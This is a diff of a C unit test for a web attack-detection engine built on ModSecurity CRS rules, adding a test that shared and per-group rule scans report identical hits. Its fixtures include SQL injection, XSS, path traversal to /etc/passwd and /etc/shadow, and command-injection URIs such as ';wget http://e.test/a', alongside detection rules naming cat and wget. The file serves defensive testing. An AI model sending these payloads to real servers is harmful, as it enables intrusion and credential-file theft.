@@ -559,45 +559,91 @@ evaluate_debian_crs(void **state)
 		}
 	}
 
-	/* a text several groups' chains make alike is scanned once with
-	 * the databases of every group (the arguments' shared one too):
-	 * the same hits as each group's own scan */
+	/* every group's rules in one database per target (the arguments'
+	 * targets in one), no group's database of its own */
 	assert_true(e.sig.big != NULL);
 	assert_true(e.sig.big_targets & (1u << CT_ARGS));
-	{
-		static const char *const uris[] = {
-		    "/index.php?id=1%27%20union%20select%201,2--",
-		    "/x?file=../../etc/passwd&cmd=cat+/etc/shadow",
-		    "/a?q=<script>alert(1)</script>&r=%3Cimg%20src=x%3E",
-		    "/p?x=system(%27ls%27)&y=;wget+http://e.test/a",
-		    "/q?a=1+OR+1=1&b=%2E%2E%5Cwindows%5Cwin.ini",
-		    "/cgi-bin/a.php?f=php://filter/convert.base64-encode"};
-		struct attack_result shared[6], own;
-		unsigned all = e.sig.all_targets, big = e.sig.big_targets;
-
-		attack_engine_memo(&e, 0);
-		for (size_t i = 0; i < 6; i++)
-			match(&e, "GET", uris[i], "Mozilla/5.0 (X11)",
-			    &shared[i]);
-		e.sig.all_targets = e.sig.big_targets = 0;
-		for (size_t i = 0; i < 6; i++) {
-			match(&e, "GET", uris[i], "Mozilla/5.0 (X11)", &own);
-			assert_true(own.crs_score > 0);
-			assert_int_equal(own.crs_score, shared[i].crs_score);
-			assert_int_equal(own.ncrs, shared[i].ncrs);
-			for (unsigned k = 0; k < own.ncrs; k++) {
-				assert_int_equal(
-				    own.crs[k].id, shared[i].crs[k].id);
-				assert_int_equal(
-				    own.crs[k].len, shared[i].crs[k].len);
-				assert_memory_equal(own.crs[k].text,
-				    shared[i].crs[k].text, own.crs[k].len);
-			}
-		}
-		e.sig.all_targets = all;
-		e.sig.big_targets = big;
-	}
+	for (size_t g = 0; g < e.sig.ngrp; g++)
+		assert_null(e.sig.grp[g].db);
 	attack_engine_release(&e);
+}
+
+/*
+ * A value's distinct texts scanned once with the databases of every
+ * group's rules per target give the hits of each group's text scanned
+ * with the group's own database (sig.crs_groups_only), rule by rule and
+ * with the same matched text.
+ */
+static void
+evaluate_shared_scans(void **state)
+{
+	static const char rules[] =
+	    "SecRule ARGS|REQUEST_FILENAME \"@rx (?i)union\\s+select\" "
+	    "\"id:1,phase:2,t:none,t:urlDecodeUni,t:lowercase,"
+	    "setvar:'tx.anomaly_score_pl1=+5'\"\n"
+	    "SecRule ARGS \"@rx select\" \"id:2,phase:2,t:none,"
+	    "setvar:'tx.anomaly_score_pl1=+5'\"\n"
+	    "SecRule ARGS|REQUEST_HEADERS:User-Agent \"@pm cat wget\" "
+	    "\"id:3,phase:2,t:none,t:cmdLine,"
+	    "setvar:'tx.anomaly_score_pl1=+5'\"\n"
+	    "SecRule ARGS_NAMES|ARGS \"@rx <script\" \"id:4,phase:2,"
+	    "t:none,t:urlDecodeUni,t:htmlEntityDecode,t:lowercase,"
+	    "setvar:'tx.anomaly_score_pl1=+5'\"\n"
+	    "SecRule ARGS \"@rx \\.\\./\" \"id:5,phase:2,t:none,"
+	    "t:urlDecodeUni,t:normalisePath,"
+	    "setvar:'tx.anomaly_score_pl1=+5'\"\n"
+	    "SecRule REQUEST_FILENAME \"@rx /etc/passwd\" \"id:6,phase:2,"
+	    "t:none,t:lowercase,setvar:'tx.anomaly_score_pl1=+5'\"\n";
+	static const char *const uris[] = {
+	    "/index.php?id=1%27%20UNION%20SELECT%201,2--",
+	    "/x?file=../../etc/passwd&cmd=CAT+/etc/shadow",
+	    "/a?q=%3CScript%3Ealert(1)&%3cscript%3e=1",
+	    "/ETC/PASSWD?x=select+1",
+	    "/p?y=;W'g'et+http://e.test/a&z=a/b/../../c"};
+	struct attack_engine e[2];
+	struct attack_result res[2];
+	unsigned fired = 0;
+
+	(void)state;
+	for (int m = 0; m < 2; m++) {
+		struct attack_ruleset rs;
+		struct secrule_set ss;
+		struct crs_set cs;
+		struct err err = {0};
+
+		ruleset_init(&rs);
+		assert_int_equal(attack_engine_init(&e[m], &rs, NULL, &err), 0);
+		e[m].sig.crs_groups_only = m;
+		secrule_set_init(&ss);
+		crs_set_init(&cs);
+		assert_int_equal(
+		    secrule_parse(&ss, "t.conf", rules, strlen(rules), &err),
+		    0);
+		assert_int_equal(
+		    crs_translate(&cs, &ss, "t.conf", CRS_DIR, &err), 0);
+		if (attack_engine_crs(&e[m], &cs, 1, 5, NULL, &err) == -1)
+			fail_msg("%s", err.msg);
+		secrule_set_release(&ss);
+		attack_engine_memo(&e[m], 0);
+	}
+	assert_true(e[0].sig.big != NULL);
+	assert_true(e[1].sig.big == NULL && e[1].sig.all_targets == 0);
+	for (size_t i = 0; i < sizeof(uris) / sizeof(*uris); i++) {
+		for (int m = 0; m < 2; m++)
+			match(&e[m], "GET", uris[i], "curl/8 (Wget)", &res[m]);
+		assert_int_equal(res[0].crs_score, res[1].crs_score);
+		assert_int_equal(res[0].ncrs, res[1].ncrs);
+		for (unsigned k = 0; k < res[0].ncrs; k++) {
+			assert_int_equal(res[0].crs[k].id, res[1].crs[k].id);
+			assert_int_equal(res[0].crs[k].len, res[1].crs[k].len);
+			assert_memory_equal(res[0].crs[k].text,
+			    res[1].crs[k].text, res[0].crs[k].len);
+		}
+		fired += res[0].ncrs;
+	}
+	assert_true(fired >= 8);
+	attack_engine_release(&e[0]);
+	attack_engine_release(&e[1]);
 }
 
 /* One request against e: 1 when rule id fired on it. */
@@ -849,6 +895,7 @@ main(void)
 	    cmocka_unit_test(translate_snippets),
 	    cmocka_unit_test(evaluate),
 	    cmocka_unit_test(evaluate_debian_crs),
+	    cmocka_unit_test(evaluate_shared_scans),
 	    cmocka_unit_test(evaluate_chain),
 	    cmocka_unit_test(evaluate_ops),
 	    cmocka_unit_test(own_rules_after_bad_cache),
